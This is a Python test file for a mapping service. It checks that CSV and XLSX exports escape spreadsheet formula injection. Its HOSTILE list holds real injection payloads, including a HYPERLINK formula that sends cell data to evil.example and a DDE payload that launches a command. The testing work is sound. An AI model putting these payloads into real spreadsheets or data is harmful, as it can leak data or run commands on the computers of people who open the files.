"""Issue 10, class 7 (formula injection): hostile texts stored in the database come back from every
CSV and XLSX the service writes, downloaded over HTTP and read with independent readers (the csv
module, openpyxl), as text no spreadsheet runs.

Before the fix these failed: the layer exports wrote CSV with pandas and XLSX with pandas/openpyxl
(``=...`` became a formula cell, data type "f"); the perimeter CSV/XLSX and the roster wrote raw
values; the register CSV's own escape let ``=1+2`` and ``-1+2`` through (a digit after the sign).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import openpyxl
import psycopg
import pytest
from fastapi.testclient import TestClient

from tests.conftest import own_database

database_url, settings, admin_token = own_database("gridmap_sec_formulas")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2", "-1+2", "+1+2", "@SUM(1+1)",
           "\t=1+2", "\r=1+2", "-cmd|' /C calc'!A0"]
COMMUNITY = "439902001001"
GRID = COMMUNITY + "001"
X0, Y0 = 112.50, 26.50  # inside China, away from the other folders' test areas
DAY = date(2026, 11, 28)


@pytest.fixture(scope="module")
def hostile(database_url: str) -> Iterator[dict[str, int]]:
    """A community and grid, households and persons, a school with an internet cafe beside it, a
    responsible unit on a road section: every text a hostile value. Removed afterwards."""
    ids: dict[str, int] = {}
    with psycopg.connect(database_url) as c:
        x1, y1 = X0 + .02, Y0 + .02
        square = f"SRID=4326;MULTIPOLYGON((({X0} {Y0},{x1} {Y0},{x1} {y1},{X0} {y1},{X0} {Y0})))"
        c.execute("INSERT INTO community (code, name, geom) VALUES (%s, %s, %s)",
                  [COMMUNITY, "=社区", square])
        c.execute("INSERT INTO grid (code, community_code, name, geom) VALUES (%s, %s, %s, %s)",
                  [GRID, COMMUNITY, "=网格", square])
        for i, text in enumerate(HOSTILE):
            hid = c.execute(
                "INSERT INTO household (ref, address, building, unit, room, grid_code, placement, geom)"
                " VALUES (%s, %s, %s, %s, %s, %s, 'inside', ST_SetSRID(ST_MakePoint(%s, %s), 4326))"
                " RETURNING id", [f"f{i}", text, text, text, text, GRID, X0 + .005 + i * 1e-4, Y0 + .005],
            ).fetchone()[0]
            c.execute("INSERT INTO person (household_id, name, relation) VALUES (%s, %s, 'head')",
                      [hid, text])
        ids["school"] = c.execute(
            "INSERT INTO school (ref, name, level, geom) VALUES ('fs', %s, 'primary',"
            " ST_SetSRID(ST_MakePoint(%s, %s), 4326)) RETURNING id",
            ["=学校", X0 + .01, Y0 + .01]).fetchone()[0]
        c.execute("INSERT INTO place (ref, name, category, address, geom) VALUES ('fp', %s, 'internet_cafe',"
                  " %s, ST_SetSRID(ST_MakePoint(%s, %s), 4326))",
                  [HOSTILE[0], HOSTILE[2], X0 + .0101, Y0 + .01])
        road = c.execute("INSERT INTO road (ref, name, geom) VALUES ('FR1', %s, ST_GeomFromText("
                         "'LINESTRING(112.5 26.5, 112.51 26.5)', 4326)) RETURNING id",
                         [HOSTILE[1]]).fetchone()[0]
        section = c.execute(
            "INSERT INTO road_section (road_id, code, road_name, from_desc, to_desc, length_m, street_name,"
            " geom) VALUES (%s, 'FR1-001', %s, %s, %s, 1000, %s,"
            " ST_GeomFromText('LINESTRING(112.5 26.5, 112.51 26.5)', 4326)) RETURNING id",
            [road, HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4]]).fetchone()[0]
        ids["unit"] = c.execute("INSERT INTO responsible_unit (name, kind, contact, phone) VALUES"
                                " (%s, 'other', %s, '0736-7221234') RETURNING id",
                                [HOSTILE[0], HOSTILE[4]]).fetchone()[0]
        c.execute("INSERT INTO road_section_assignment (section_id, unit_id, valid) VALUES"
                  " (%s, %s, daterange('2026-01-01', NULL))", [section, ids["unit"]])
        c.commit()
    yield ids
    with psycopg.connect(database_url) as c:
        c.execute("DELETE FROM road_section_assignment WHERE unit_id = %s", [ids["unit"]])
        c.execute("DELETE FROM responsible_unit WHERE id = %s", [ids["unit"]])
        c.execute("DELETE FROM road WHERE ref = 'FR1'")
        c.execute("DELETE FROM place WHERE ref = 'fp'")
        c.execute("DELETE FROM school WHERE ref = 'fs'")
        c.execute("DELETE FROM household WHERE grid_code = %s", [GRID])
        c.execute("DELETE FROM grid WHERE code = %s", [GRID])
        c.execute("DELETE FROM community WHERE code = %s", [COMMUNITY])
        c.commit()


@pytest.fixture(scope="module")
def http(settings, admin_token: str) -> Iterator[TestClient]:
    from api.app import create_app

    with TestClient(create_app(settings), headers={"Authorization": f"Bearer {admin_token}"}) as c:
        yield c


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_safe(content: bytes, expect_hostile: bool = True) -> None:
    cells = csv_cells(content)
    running = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not running, f"cells a spreadsheet would run: {running[:5]}"
    if expect_hostile:  # the hostile texts are there, as text
        assert any(c[:1] == "'" and c[1:].startswith(FORMULA_STARTS) for c in cells), cells[:40]


def assert_xlsx_text(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(("=", "+", "-", "@")):
                    seen.append(cell.value)
                    assert cell.data_type == "s", f"{cell.coordinate} {cell.value!r}: {cell.data_type}"
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    assert "=1+2" in seen, "the hostile texts should be in the workbook, as text"


@pytest.mark.parametrize("path", [f"/grids/{GRID}/register.csv", f"/communities/{COMMUNITY}/register.csv"])
def test_register_csv_runs_no_formula(http, hostile, path):
    r = http.get(path)
    assert r.status_code == 200, r.text
    assert_csv_safe(r.content)


@pytest.mark.parametrize("path", [f"/grids/{GRID}/register.xlsx", f"/communities/{COMMUNITY}/register.xlsx"])
def test_register_xlsx_stores_text_as_text(http, hostile, path):
    r = http.get(path)
    assert r.status_code == 200, r.text
    assert_xlsx_text(r.content)


SCOPED = ("households", "persons", "grids")


@pytest.mark.parametrize("layer", [*SCOPED, "communities", "places", "units", "roads"])
def test_layer_csv_export_runs_no_formula(http, hostile, layer):
    params = {"format": "csv"} | ({"community": COMMUNITY} if layer in SCOPED else {})
    r = http.get(f"/exports/{layer}", params=params)
    assert r.status_code == 200, r.text
    assert_csv_safe(r.content)


@pytest.mark.parametrize("layer", ["households", "persons", "places", "units"])
def test_layer_xlsx_export_stores_text_as_text(http, hostile, layer):
    params = {"format": "xlsx"} | ({"community": COMMUNITY} if layer in ("households", "persons") else {})
    r = http.get(f"/exports/{layer}", params=params)
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert any(c.value == "=1+2" or c.value == HOSTILE[0] for c in cells), "hostile text exported"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_perimeter_violations_csv_and_xlsx(http, hostile):
    r = http.get("/perimeter/violations", params={"format": "csv", "date": DAY.isoformat()})
    assert r.status_code == 200, r.text
    cells = csv_cells(r.content)
    assert "'" + HOSTILE[0] in cells, "the cafe by the school is a violation, its name kept as text"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    r = http.get("/perimeter/violations", params={"format": "xlsx", "date": DAY.isoformat()})
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert any(c.value == HOSTILE[0] and c.data_type == "s" for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_roster_xlsx_stores_text_as_text(http, hostile):
    r = http.get(f"/units/{hostile['unit']}/roster.xlsx", params={"on": "2026-06-01"})
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert any(c.value == HOSTILE[1] for c in cells), "the section's road name is in the roster"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_an_export_imports_back_to_the_same_text(hostile, tmp_path, database_url):
    """The apostrophe is for spreadsheets only: the importer takes it off again."""
    import pandas as pd

    from gis.interop.readers import read_frame
    from gis.spreadsheet import frame_csv_text

    path = tmp_path / "back.csv"
    path.write_text(frame_csv_text(pd.DataFrame({"ref": ["a", "b"], "name": [HOSTILE[1], "'plain"]})))
    assert list(read_frame(path)["name"]) == [HOSTILE[1], "'plain"]
